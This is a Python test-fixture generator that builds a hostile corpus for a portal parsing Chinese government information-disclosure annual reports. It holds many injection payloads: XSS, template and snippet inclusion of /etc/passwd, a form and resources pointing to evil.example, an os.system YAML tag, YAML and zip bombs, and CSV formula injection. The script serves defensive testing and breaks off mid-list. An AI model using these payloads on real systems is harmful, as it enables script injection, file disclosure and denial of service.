"""The hostile corpus: files a public portal may find in ``reports/``, and what each must give.

    .venv/bin/python tests/hostile/make_hostile.py   # rewrites tests/hostile/reports/ + README.md

Every case is built here from a small clean F2021 report (``report()``) or written byte by
byte, so the committed files stay small, reviewable and reproducible: ``test_hostile_parse``
fails when the committed files differ from what this script writes. The large cases (50 MB,
one million lines, one very long line) are never committed; ``write_large`` makes them at
test time. ``CASES`` is also the table of expectations the tests check against the build
report: the status of each file and a fragment its message must contain.
"""

from __future__ import annotations

import io
import os
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPORTS = HERE / "reports"
README = HERE / "README.md"

# The sentinel the browser test watches: any payload that runs sets it.
PWN = "window.__pwned=true"


@dataclass(frozen=True)
class Case:
    name: str  # file name under reports/
    data: bytes
    tests: str  # what the case tests, for the README
    status: str  # ok | problems | failed (build/build-report.json)
    message: str = ""  # a fragment the build-report message or a problem must contain
    agency: str | None = None  # the agency name the record must carry (None: not checked)
    shows: str = ""  # text the page must show as plain text (hostile strings)


# --- a small clean F2021 report ---------------------------------------------------------

T3_LABELS = [
    "一、本年新收政府信息公开申请数量",
    "二、上年结转政府信息公开申请数量",
    "三、本年度办理结果\t(一) 予以公开",
    "\t(二) 部分公开(区分处理的, 只计这一情形, 不计其他情形)",
    "\t(三) 不予公开\t1.属于国家秘密",
    "\t\t2.其他法律行政法规禁止公开",
    "\t\t3.危及“三安全一稳定”",
    "\t\t4.保护第三方合法权益",
    "\t\t5.属于三类内部事务信息",
    "\t\t6.属于四类过程性信息",
    "\t\t7.属于行政执法案卷",
    "\t\t8.属于行政查询事项",
    "\t(四) 无法提供\t1.本机关不掌握相关政府信息",
    "\t\t2.没有现成信息需要另行制作",
    "\t\t3.补正后申请内容仍不明确",
    "\t(五) 不予处理\t1.信访举报投诉类申请",
    "\t\t2.重复申请",
    "\t\t3.要求提供公开出版物",
    "\t\t4.无正当理由大量反复申请",
    "\t\t5.要求行政机关确认或重新出具已获取信息",
    "\t(六) 其他处理\t1.申请人无正当理由逾期不补正、行政机关不再处理其政府信息公开申请",
    "\t\t2.申请人逾期未按收费通知要求缴纳费用、行政机关不再处理其政府信息公开申请",
    "\t\t3.其他",
    "\t(七) 总计",
    "四、结转下年度继续办理",
]
T3_KEYS = [
    "new_received", "carried_over", "granted", "partial",
    *(f"denied.{i}" for i in range(8)), *(f"unable.{i}" for i in range(3)),
    *(f"not_processed.{i}" for i in range(5)), *(f"other.{i}" for i in range(3)),
    "total_processed", "carried_forward",
]  # fmt: skip


def t3_rows(received: int = 2, **cells: list[str]) -> list[str]:
    """表三 rows: `received` requests from natural persons, all granted; `cells` overrides
    a row's seven cells by key (new_received, granted, …)."""
    base = {key: ["0"] * 7 for key in T3_KEYS}
    n = str(received)
    for key in ("new_received", "granted", "total_processed"):
        base[key] = [n, "0", "0", "0", "0", "0", n]
    base.update(cells)
    return [f"{label}\t" + "\t".join(base[key]) for label, key in zip(T3_LABELS, T3_KEYS, strict=True)]


def report(
    title: str | None = "测试县科学技术局2023年政府信息公开工作年度报告",
    *,
    year: str = "2023",
    overview: str = "",
    t2: dict[str, str] | None = None,
    t3: list[str] | None = None,
    t4: str = "\t".join(["0"] * 15),
    problems_text: str = "",
    end: str = "",
    newline: str = "\n",
) -> str:
    """A complete, internally consistent F2021 report (every check passes)."""
    t2 = {"规章": "0\t0\t0", "行政规范性文件": "1\t0\t5", "行政许可": "3", "行政处罚": "0",
          "行政强制": "0", "行政事业性收费": "0", **(t2 or {})}  # fmt: skip
    lines = [
        *([title, ""] if title else []),
        f"本报告根据《中华人民共和国政府信息公开条例》编制。报告中所列数据统计期限为{year}年1月1日至12月31日。",
        "",
        "一、总体情况",
        "",
        f"{year}年，本单位认真落实政府信息公开各项要求，主动公开信息 15 条。",
        *([overview] if overview else []),
        "",
        "二、主动公开政府信息情况",
        "",
        "第二十条第（一）项\t\t\t",
        "信息内容\t本年制发件数\t本年废止件数\t现行有效件数",
        f"规章\t{t2['规章']}",
        f"行政规范性文件\t{t2['行政规范性文件']}",
        "第二十条第（五）项\t\t\t",
        "信息内容\t本年处理决定数量\t\t",
        f"行政许可\t{t2['行政许可']}\t\t",
        "第二十条第（六）项\t\t\t",
        "信息内容\t本年处理决定数量\t\t",
        f"行政处罚\t{t2['行政处罚']}\t\t",
        f"行政强制\t{t2['行政强制']}\t\t",
        "第二十条第（八）项\t\t\t",
        "信息内容\t本年收费金额（单位：万元）\t\t",
        f"行政事业性收费\t{t2['行政事业性收费']}\t\t",
        "",
        "三、收到和处理政府信息公开申请情况",
        "",
        "(本列数据的勾稽关系为：第一项加第二项之和，等于第三项加第四项之和)\t\t申请人情况\t\t\t\t\t\t总计",
        "\t\t自然人\t法人或其他组织\t\t\t\t\t",
        "\t\t\t商业企业\t科研机构\t社会公益组织\t法律服务机构\t其他\t",
        *(t3 if t3 is not None else t3_rows()),
        "",
        "四、政府信息公开行政复议、行政诉讼情况",
        "",
        "行政复议\t\t\t\t\t行政诉讼",
        "结果维持\t结果纠正\t其他结果\t尚未审结\t总计\t未经复议直接起诉\t\t\t\t\t复议后起诉",
        "\t\t\t\t\t结果维持\t结果纠正\t其他结果\t尚未审结\t总计\t结果维持\t结果纠正\t其他结果\t尚未审结\t总计",
        t4,
        "",
        "五、存在的主要问题及改进情况",
        "",
        "政务新媒体信息更新不够及时。下一步将加强日常管理。",
        *([problems_text] if problems_text else []),
        "",
        "六、其他需要报告的事项",
        "",
        f"本单位{year}年未收取信息处理费。",
        *([end] if end else []),
        "",
    ]
    return newline.join(lines)


def utf8(text: str) -> bytes:
    return text.encode("utf-8")


# --- binary look-alikes -----------------------------------------------------------------


def tiny_pdf() -> bytes:
    """A valid one-page PDF (xref offsets computed) whose text is a report title."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>",
    ]
    stream = b"BT /F1 12 Tf 10 50 Td (2023 annual report) Tj ET"
    objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    return pdf_file(objects, b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")


def pdf_file(objects: list[bytes], header: bytes = b"%PDF-1.4\n") -> bytes:
    """A PDF of these objects (object 1 the catalog), with the cross-reference table's
    offsets computed."""
    out = io.BytesIO()
    out.write(header)
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def office_zip(kind: str) -> bytes:
    """A minimal docx, xlsx or zip-bomb docx (a zip with fixed timestamps, so the bytes never
    change)."""
    title = "测试县科学技术局2023年政府信息公开工作年度报告"
    if kind == "bomb":  # 30 MB of spaces inflate from ~30 KB
        files = {
            "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
            + " " * 30_000_000 + "</w:body></w:document>",
        }
    elif kind == "docx":
        files = {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{title}</w:t></w:r></w:p></w:body></w:document>',
        }
    else:
        files = {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="表三" sheetId="1"/></sheets></workbook>',
            "xl/sharedStrings.xml": f'<?xml version="1.0"?><sst><si><t>{title}</t></si></sst>',
        }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in files.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, text.encode("utf-8"))
    return out.getvalue()


def binary_junk(n: int = 4096) -> bytes:
    """Deterministic bytes that are no text in any encoding (a xorshift stream)."""
    x, out = 0x2545F491, bytearray()
    while len(out) < n:
        x ^= (x << 13) & 0xFFFFFFFF
        x ^= x >> 17
        x ^= (x << 5) & 0xFFFFFFFF
        out += x.to_bytes(4, "little")
    return bytes(out[:n])


TINY_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)

# --- the hostile payloads ---------------------------------------------------------------

MARKUP_LINES = [
    f"<script>{PWN};alert('script')</script>",
    f'<img src=x onerror="{PWN};alert(\'img\')">',
    f'<svg onload="{PWN}"><circle r="5"/></svg>',
    f'<a href="javascript:{PWN}">点此查看原文</a>',
    f"[点此下载](javascript:{PWN})",
    "![外部图片](https://evil.example/tracker.png)",
    '<iframe src="https://evil.example/frame"></iframe>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/y.css); body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    f'<div onclick="{PWN}" style="background:url(https://evil.example/bg.png)">原始 HTML 块</div>',
    "<!-- 注释 --><plaintext>",
    f'<object data="javascript:{PWN}"></object><embed src="https://evil.example/e.swf">',
    f"&lt;script&gt;{PWN}&lt;/script&gt; &amp;lt; &#60;b&#62;",
]

TEMPLATE_LINES = [
    '--8<-- "/etc/passwd"',
    '--8<-- "mkdocs.yml"',
    ';--8<-- "../../../etc/hostname"',
    "{! /etc/passwd !}",
    "{{ config }}{{ config.theme }}{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}{% for x in range(3) %}循环{% endfor %}",
    "{# 注释 #}{%- raw -%}",
    "!!! danger \"警告\"",
    '    <div markdown="1">**加粗**</div>',
    f'{{: onclick="{PWN}" }}',
    f"[链接][ref]\n\n[ref]: javascript:{PWN}",
    "```mermaid\ngraph TD; A-->B\n```",
    "$$ \\href{javascript:alert(1)}{x} $$",
    "| 表 | 格 |\n|---|---|\n| <b>x</b> | 1 |",
]

FRONT_MATTER = (
    "---\n"
    f'title: "<script>{PWN}</script>"\n'
    "template: ../../../../etc/passwd\n"
    "hooks: [evil.py]\n"
    "pagefind: false\n"
    "search:\n  exclude: true\n"
    "---\n\n"
)

SIDECAR_UNSAFE = 'url: !!python/object/apply:os.system ["touch /tmp/pwned"]\npublished: 2024-01-31\n'
SIDECAR_JS = f'url: "javascript:{PWN}"\npublished: "<script>{PWN}</script>"\nextra: "{{{{ config }}}}"\n'
def alias_bomb(levels: int) -> str:
    """YAML whose few hundred bytes stand for 9**levels strings (billion laughs at 9)."""
    names = "abcdefghijklmnop"
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for prev, name in zip(names, names[1 : levels - 1], strict=False):
        lines.append(f"{name}: &{name} [{','.join([f'*{prev}'] * 9)}]")
    last = names[levels - 2]
    lines.append(f"url: &bomb [{','.join([f'*{last}'] * 9)}]")
    lines.append("published: *bomb")
    return "\n".join(lines) + "\n"


# In the committed corpus the bomb is small (9**6 strings), so a build without the fix fails
# its assertions in seconds instead of using gigabytes; test_hostile_build also tries 9**9.
SIDECAR_BOMB = alias_bomb(6)

LONG_NAME = "某某省" + "某某市" * 30 + "科学技术局"  # 98 characters: a name, though an absurd one
VERY_LONG_NAME = "很长的名称" * 60 + "局"  # 301 characters: no title line is that long

OLD_STRUCTURE = """旧结构县人民政府2017年政府信息公开工作年度报告

本报告是根据《中华人民共和国政府信息公开条例》要求编制。全文包括概述，主动公开政府信息情况，依申请公开政府信息情况，政府信息公开的收费及减免情况，因政府信息公开申请提起行政复议、行政诉讼的情况，存在的主要问题及改进措施，其他需要报告的事项。

一、概述

2017年，我县认真贯彻落实《条例》，政府信息公开工作取得新进展。

二、主动公开政府信息情况

全年主动公开政府信息 1,024 条，其中规范性文件 12 件。

三、依申请公开政府信息情况

全年共收到政府信息公开申请 7 件，均已按时答复。

四、政府信息公开的收费及减免情况

全年未收取任何费用。

五、因政府信息公开申请提起行政复议、行政诉讼的情况

全年未发生因政府信息公开申请提起行政复议、行政诉讼的情况。

六、存在的主要问题及改进措施

公开内容还不够全面。

七、其他需要报告的事项

无。
"""

NOT_A_REPORT = """关于开展2024年春季植树活动的通知

各科室：

为改善机关环境，定于3月12日上午9时在院内开展植树活动，请各科室派2名同志参加。

附：西红柿炒鸡蛋的做法
1. 鸡蛋 3 个打散，西红柿 2 个切块。
2. 先炒鸡蛋，再炒西红柿，加盐 1 勺。
"""


def truncated() -> str:
    text = report("截断县科学技术局2023年政府信息公开工作年度报告")
    return text[: text.index("行政处罚")]  # cut inside 表二: 表三 and 表四 never arrive


def pre_html(title: str, body: str, charset: str = "utf-8") -> str:
    return (
        f'<!DOCTYPE html><html><head><meta charset="{charset}"><title>{title}</title></head><body>'
        f"<h1>{title}</h1>{body}</body></html>"
    )


def hostile_page() -> str:
    """A saved web page full of active content around an otherwise clean report."""
    text = report("网页县科学技术局2023年政府信息公开工作年度报告")
    blocks = []
    for line in text.split("\n"):
        if "\t" in line:
            cells = "".join(f"<td>{c}</td>" for c in line.split("\t"))
            blocks.append(f"<table><tr>{cells}</tr></table>")
        elif line:
            blocks.append(f"<p>{line}</p>")
    active = [
        f"<script>{PWN};alert('page')</script>",
        f'<img src="https://evil.example/a.png" onerror="{PWN}">',
        f'<a href="javascript:{PWN}">原文链接</a>',
        f'<p onclick="{PWN}" style="background:url(https://evil.example/b.png)">点击</p>',
        '<iframe src="https://evil.example/"></iframe>',
        '<form action="https://evil.example/post"><input name="q"><button>提交</button></form>',
        f'<svg><script>{PWN}</script></svg><math><mi xlink:href="javascript:{PWN}">x</mi></math>',
        f"<p>&lt;script&gt;{PWN}&lt;/script&gt; 以文字形式出现的标签</p>",
        "<p>{{ config }} {% include 'x' %} --8&lt;-- \"/etc/passwd\"</p>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ]
    body = "".join(blocks[:3] + active + blocks[3:])
    head = (
        '<meta charset="utf-8"><base href="https://evil.example/">'
        f'<script src="https://evil.example/x.js"></script><style>@import "https://evil.example/s.css";</style>'
    )
    return (
        f"<!DOCTYPE html><html><head>{head}<title>网页县</title></head>"
        f'<body onload="{PWN}"><div class="content">{body}</div></body></html>'
    )


def deep_page(depth: int = 3000) -> str:
    text = report("嵌套县科学技术局2023年政府信息公开工作年度报告")
    rows = "".join(f"<p>{line}</p>" for line in text.split("\n") if line and "\t" not in line)
    return f"<html><body>{'<font>' * depth}{rows}{'</font>' * depth}</body></html>"


def spans_page() -> str:
    text = report("跨度县科学技术局2023年政府信息公开工作年度报告")
    parts = []
    for line in text.split("\n"):
        if "\t" in line:
            parts.append("<tr>" + "".join(f"<td>{c}</td>" for c in line.split("\t")) + "</tr>")
    huge = '<tr><td rowspan="99999999" colspan="99999999">合并</td><td colspan="1e9">x</td></tr>'
    return f"<html><body><h1>跨度县科学技术局2023年政府信息公开工作年度报告</h1><table>{huge}{''.join(parts)}</table></body></html>"


def html_report(title: str) -> str:
    """The clean report as a web page body: paragraphs and one table per tab row."""
    out = []
    for line in report(title).split("\n"):
        if "\t" in line:
            out.append("<table><tr>" + "".join(f"<td>{c}</td>" for c in line.split("\t")) + "</tr></table>")
        elif line:
            out.append(f"<p>{line}</p>")
    return "".join(out)


def stray_byte() -> bytes:
    """A UTF-8 report with one byte that is no UTF-8 (0xFF) in its narrative."""
    data = utf8(report("杂字县科学技术局2023年政府信息公开工作年度报告"))
    cut = data.index("主动公开信息".encode())
    return data[:cut] + b"\xff" + data[cut:]


CHART_SVG = (
    '<?xml version="1.0" encoding="utf-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40">'
    "<text x='0' y='20'>图表县科学技术局2023年政府信息公开工作年度报告</text></svg>\n"
)
NOTES_RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 Minutes of the canteen committee\\par Lunch menu for March\\par}"


def build_cases() -> list[Case]:
    cases = [
        # --- files -----------------------------------------------------------------------
        Case("empty.txt", b"", "空文件（0 字节）", "failed", "文件为空"),
        Case("whitespace.txt", utf8(" \n\t\r\n\u3000\u3000\n   \n"), "只有空白（含全角空格）", "failed", "文件为空"),
        Case("binary.bin", binary_junk(), "二进制乱码", "failed", "字符编码"),
        Case(
            "report.pdf",
            tiny_pdf(),
            "PDF 文件（有效的一页 PDF，几乎没有文字层：交给 OCR 后也不是报告）",
            "failed",
            "不是政府信息公开工作年度报告",
        ),
        Case("report.docx", office_zip("docx"), "Word 文件（docx），只有标题，没有表格", "problems",
             "没有识别出全国统一格式", "测试县科学技术局"),
        Case("zip_bomb.docx", office_zip("bomb"), "Word 文件（docx）：document.xml 解压后 30 MB（压缩炸弹）",
             "failed", "压缩炸弹"),
        Case("report.xlsx", office_zip("xlsx"), "Excel 文件（xlsx）", "failed", "xlsx"),
        Case("report.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "旧版 Word 文件（doc）", "failed", "旧版 Office"),
        Case("report.png", TINY_PNG, "图片", "failed", "PNG"),
        Case("truncated.txt", utf8(truncated()), "截断的报告：表二中途结束，没有表三、表四", "problems",
             "没有找到表三", "截断县科学技术局"),
        Case("no_title.txt", utf8(report(None)), "没有标题（机关名称与年度都不在）", "problems",
             "没有找到报告标题中的机关名称"),
        Case("no_year.txt", utf8(report("无年度县科学技术局政府信息公开工作年度报告").replace("2023年", "本年")),
             "标题与正文都没有年度", "problems", "没有找到报告所属的年度", "无年度县科学技术局"),
        Case("not_a_report.txt", utf8(NOT_A_REPORT), "不是年度报告的文件（通知和菜谱）", "failed",
             "不是政府信息公开工作年度报告"),
        Case("pre2019.txt", utf8(OLD_STRUCTURE), "2019 年以前的旧结构（没有第二十条表格）", "problems",
             "2019 年以前的旧结构", "旧结构县人民政府"),
        # --- encodings ---------------------------------------------------------------------
        Case("gb18030.txt", report("编码县科学技术局2023年政府信息公开工作年度报告", overview="生僻字𠀀𪚥不在 GBK 里。").encode("gb18030"),
             "GB18030 编码（含 GBK 以外的字）", "ok", "", "编码县科学技术局", "生僻字𠀀𪚥"),
        Case("gbk.txt", report("国标县科学技术局2023年政府信息公开工作年度报告").encode("gbk"), "GBK 编码", "ok", "", "国标县科学技术局"),
        Case("gbk_page.html", pre_html("网页编码县科学技术局2023年政府信息公开工作年度报告",
                                       "".join(f"<p>{x}</p>" for x in report(None).split("\n") if x and "\t" not in x),
                                       "gbk").encode("gbk"),
             "GBK 网页（meta charset=gbk），没有表格", "problems", "表格标签", "网页编码县科学技术局"),
        Case("utf16le_bom.txt", report("双字节县科学技术局2023年政府信息公开工作年度报告").encode("utf-16"),
             "UTF-16 LE 带 BOM", "ok", "", "双字节县科学技术局"),
        Case("utf16be_bom.txt", b"\xfe\xff" + report("大端县科学技术局2023年政府信息公开工作年度报告").encode("utf-16-be"),
             "UTF-16 BE 带 BOM", "ok", "", "大端县科学技术局"),
        Case("utf8_bom.txt", b"\xef\xbb\xbf" + utf8(report("签名县科学技术局2023年政府信息公开工作年度报告")),
             "UTF-8 带 BOM", "ok", "", "签名县科学技术局"),
        Case("utf32le_bom.txt", report("四字节县科学技术局2023年政府信息公开工作年度报告").encode("utf-32"),
             "UTF-32 LE 带 BOM（曾被当作二进制）", "ok", "", "四字节县科学技术局"),
        Case("stray_byte.txt", stray_byte(), "UTF-8 中混入一个无效字节（曾被拒为“无法识别字符编码”）：替换为 � 并提示",
             "problems", "不是有效的字符", "杂字县科学技术局"),
        Case("meta_undefined.html", f'<html><head><meta charset=undefined></head><body>{html_report("未定义县科学技术局2023年政府信息公开工作年度报告")}</body></html>'.encode("gbk"),
             "GBK 网页声明 <meta charset=undefined>（曾是“程序出错”）", "ok", "", "未定义县科学技术局"),
        Case("mixed_eol.txt", utf8(_mixed_eol(report("换行县科学技术局2023年政府信息公开工作年度报告"))),
             "混合换行（CRLF、CR、LF）", "ok", "", "换行县科学技术局"),
        # --- content -----------------------------------------------------------------------
        Case("markup_text.txt", utf8(report("标记县科学技术局2023年政府信息公开工作年度报告",
                                            overview="\n".join(MARKUP_LINES), end="\n".join(MARKUP_LINES[:3]))),
             "正文中的 <script>、<img onerror>、javascript: 链接、原始 HTML 块、外部资源", "ok", "",
             "标记县科学技术局", "<script>"),
        Case("template_syntax.md", utf8(report("模板县科学技术局2023年政府信息公开工作年度报告",
                                               overview="\n".join(TEMPLATE_LINES))),
             "正文中的 pymdownx snippets（--8<--）、Jinja（{{ }}、{% %}）、Markdown 扩展语法", "ok", "",
             "模板县科学技术局", '--8<-- "/etc/passwd"'),
        Case("placeholder_text.txt", utf8(report("占位县科学技术局2023年政府信息公开工作年度报告",
                                                  overview='<div markdown="1">\nGKRAWBLOCK0X\nGKRAWBLOCK99999X\n\x02wzxhzdk:0\x03',
                                                  problems_text="GKRAWBLOCK1X")),
             "正文中像构建内部占位符的文字（GKRAWBLOCK0X、Markdown 的 \\x02wzxhzdk:0\\x03）与 markdown= 属性", "ok", "",
             "占位县科学技术局", "GKRAWBLOCK99999X"),
        Case("front_matter.md", utf8(FRONT_MATTER + report("前言县科学技术局2023年政府信息公开工作年度报告")),
             "文件开头的 YAML front matter（title/template/hooks）", "ok", "", "前言县科学技术局",
             "template: ../../../../etc/passwd"),
        Case("markup_cells.txt", utf8(report("表格标记县科学技术局2023年政府信息公开工作年度报告",
                                             t2={"行政许可": f'<img src=x onerror="{PWN}">'})),
             "表格单元格里的 HTML（问题说明引用该格）", "problems", "无法读作数字", "表格标记县科学技术局", "<img src=x"),
        Case("hostile_page.html", utf8(hostile_page()),
             "网页：<script>、事件属性、javascript: 链接、<base>、<meta refresh>、外部资源", "ok", "",
             "网页县科学技术局", "<script>"),
        Case("deep_page.html", utf8(deep_page()), "网页：3000 层未闭合的 <font>", "problems", "", "嵌套县科学技术局"),
        Case("spans_page.html", utf8(spans_page()), "网页：rowspan/colspan 为 99999999", "problems", "", "跨度县科学技术局"),
        Case("chart.svg", utf8(CHART_SVG), "SVG 图片，文字像报告标题（曾得到乱码机关名）", "failed", "SVG 矢量图"),
        Case("minutes.rtf", NOTES_RTF, "不是报告的 RTF 文件（经 LibreOffice 转换后判断）", "failed", "不是政府信息公开工作年度报告"),
        Case("sidecar_unsafe.txt", utf8(report("附件县科学技术局2023年政府信息公开工作年度报告")),
             "旁边的 YAML 有 !!python/object/apply:os.system", "problems", "无法读取", "附件县科学技术局"),
        Case("sidecar_unsafe.yml", utf8(SIDECAR_UNSAFE), "不安全的 YAML 标签（不得执行）", "sidecar"),
        Case("sidecar_js.txt", utf8(report("链接县科学技术局2023年政府信息公开工作年度报告")),
             "旁边的 YAML 原文链接是 javascript:、日期是 <script>", "problems", "不是有效的 http(s) 地址", "链接县科学技术局"),
        Case("sidecar_js.yml", utf8(SIDECAR_JS), "javascript: 链接与标记", "sidecar"),
        Case("sidecar_bomb.txt", utf8(report("别名县科学技术局2023年政府信息公开工作年度报告")),
             "旁边的 YAML 是别名炸弹（billion laughs）：原文链接与日期不得展开", "problems", "附加信息", "别名县科学技术局"),
        Case("sidecar_bomb.yml", utf8(SIDECAR_BOMB), "YAML 别名炸弹：9^6 个元素（测试另用 9^9 的）", "sidecar"),
        Case("orphan.yml", utf8("url: https://example.gov.cn/a.html\n"), "没有报告的附加信息文件", "failed", "没有同名的报告文件"),
        Case("sidecar_feb30.txt", utf8(report("二月县科学技术局2023年政府信息公开工作年度报告")),
             "旁边的 YAML 日期是 2023-02-30（PyYAML 抛出 ValueError）", "problems", "无效的值", "二月县科学技术局"),
        Case("sidecar_feb30.yml", utf8("published: 2023-02-30\nurl: https://example.gov.cn/a.html\n"), "不存在的日期", "sidecar"),
        Case("sidecar_hour.txt", utf8(report("时刻县科学技术局2023年政府信息公开工作年度报告")),
             "旁边的 YAML 日期是 2024-01-31 25:61:00", "problems", "无效的值", "时刻县科学技术局"),
        Case("sidecar_hour.yml", utf8("published: 2024-01-31 25:61:00\n"), "不存在的时刻", "sidecar"),
        Case("sidecar_digits.txt", utf8(report("长数县科学技术局2023年政府信息公开工作年度报告")),
             "旁边的 YAML 有 5,000 位的整数", "problems", "无效的值", "长数县科学技术局"),
        Case("sidecar_digits.yml", utf8("published: " + "9" * 5000 + "\n"), "5,000 位的整数", "sidecar"),
        Case("sidecar_keys.txt", utf8(report("密钥县科学技术局2023年政府信息公开工作年度报告")),
             "旁边的 YAML 有像密钥的未知键：键名不得出现在网站上", "problems", "2 个未使用的键", "密钥县科学技术局"),
        Case("sidecar_keys.yml", utf8("api_token_live: s3cr3t\nprivate_key_zq: hunter2\n"), "像密钥的未知键", "sidecar"),
        Case("year_after.txt", utf8(report("未来县科学技术局2099年政府信息公开工作年度报告")),
             "年度 2099 年晚于旁边 YAML 的发布日期 2024-01-31：年度不采用", "problems", "晚于报告的发布日期", "未来县科学技术局"),
        Case("year_after.yml", utf8("published: 2024-01-31\n"), "发布日期", "sidecar"),
        # --- names -------------------------------------------------------------------------
        Case("name_dotdot.txt", utf8(report("../../../etc/passwd局2023年政府信息公开工作年度报告")),
             "机关名称含 ../", "ok", "", "../../../etc/passwd局"),
        Case("name_backslash.txt", utf8(report("..\\..\\windows\\system32局2023年政府信息公开工作年度报告")),
             "机关名称含 \\", "ok", "", "..\\..\\windows\\system32局"),
        Case("name_script.txt", utf8(report(f"<script>{PWN};alert(1)</script>局2023年政府信息公开工作年度报告")),
             "机关名称是 <script>", "ok", "", f"<script>{PWN};alert(1)</script>局", "<script>"),
        Case("name_img.txt", utf8(report(f'<img src=x onerror="{PWN};alert(1)">局2023年政府信息公开工作年度报告')),
             "机关名称是 <img onerror>", "ok", "", f"<imgsrc=xonerror=“{PWN};alert(1)“>局", "<img"),
        Case("name_jinja.txt", utf8(report("{{ config }}{% if true %}局2023年政府信息公开工作年度报告")),
             "机关名称是 Jinja 语法", "ok", "", "{{config}}{%iftrue%}局", "{{config}}"),
        Case("name_long.txt", utf8(report(f"{LONG_NAME}2023年政府信息公开工作年度报告")),
             "很长的机关名称（98 字）", "ok", "", LONG_NAME),
        Case("name_very_long.txt", utf8(report(f"{VERY_LONG_NAME}2023年政府信息公开工作年度报告")),
             "极长的机关名称（301 字，标题行不可信）", "problems", "没有找到报告标题中的机关名称"),
        Case("name_space_a.txt", utf8(report("空格县 科学技术局 2022 年政府信息公开工作年度报告", year="2022")),
             "名称只差空格（与 name_space_b 是同一机关，不同年度）", "ok", "", "空格县科学技术局"),
        Case("name_space_b.txt", utf8(report("空格县科学技术局2023年政府信息公开工作年度报告")),
             "名称只差空格", "ok", "", "空格县科学技术局"),
        Case("name_width_a.txt", utf8(report("ＡＢ经济开发区管理委员会２０２３年政府信息公开工作年度报告")),
             "全角字母与数字（与 name_width_b 同一机关同一年度，数字相同：一个页面，两份来源）", "ok", "数字相同", "AB经济开发区管理委员会"),
        Case("name_width_b.txt", utf8(report("AB经济开发区管理委员会 2023 年政府信息公开工作年度报告")),
             "半角", "ok", "数字相同", "AB经济开发区管理委员会"),
        Case("name_collide_a.txt", utf8(report("甲/乙局2023年政府信息公开工作年度报告")),
             "页面文件夹名会相同的两个名称（/ 与 :）", "ok", "", "甲/乙局"),
        Case("name_collide_b.txt", utf8(report("甲:乙局2023年政府信息公开工作年度报告")),
             "页面文件夹名会相同的两个名称", "ok", "", "甲:乙局"),
        Case("name_formula.txt", utf8(report("=cmd|' /C calc'!A0局2023年政府信息公开工作年度报告")),
             "机关名称以 = 开头（下载的 CSV 在 Excel 中成为公式）", "ok", "", "=cmd|'/Ccalc'!A0局"),
        Case("name_bidi.txt", utf8(report("\u202e局术技学科\u202c\u200b零宽县2023年政府信息公开工作年度报告")),
             "名称含双向控制符（U+202E）与零宽字符：读作“局术技学科零宽县”", "ok", "", "局术技学科零宽县"),
        Case("dup_a.txt", utf8(report("同心县科学技术局2023年政府信息公开工作年度报告")),
             "同一机关同一年度两份报告，数字不同", "problems", "数字不一致", "同心县科学技术局"),
        Case("dup_b.txt", utf8(report("同心县科学技术局2023年政府信息公开工作年度报告", t3=t3_rows(5))),
             "同一机关同一年度两份报告，数字不同", "problems", "数字不一致", "同心县科学技术局"),
        # --- numbers -----------------------------------------------------------------------
        Case("numbers_negative.txt", utf8(report("负数县科学技术局2023年政府信息公开工作年度报告",
                                                 t2={"行政许可": "-3"}, t3=t3_rows(2, carried_over=["−1", "0", "0", "0", "0", "0", "−1"]))),
             "负数（ASCII 减号与 U+2212）", "problems", "件数不应为负", "负数县科学技术局"),
        Case("numbers_huge.txt", utf8(report("巨大县科学技术局2023年政府信息公开工作年度报告",
                                             t2={"行政许可": "999999999999", "行政处罚": "12345678901234567890",
                                                 "行政强制": "9" * 5000, "行政事业性收费": "1" + "0" * 400 + ".5"})),
             "极大的数（12 位、20 位、5000 位、1e400）", "problems", "数值异常大", "巨大县科学技术局"),
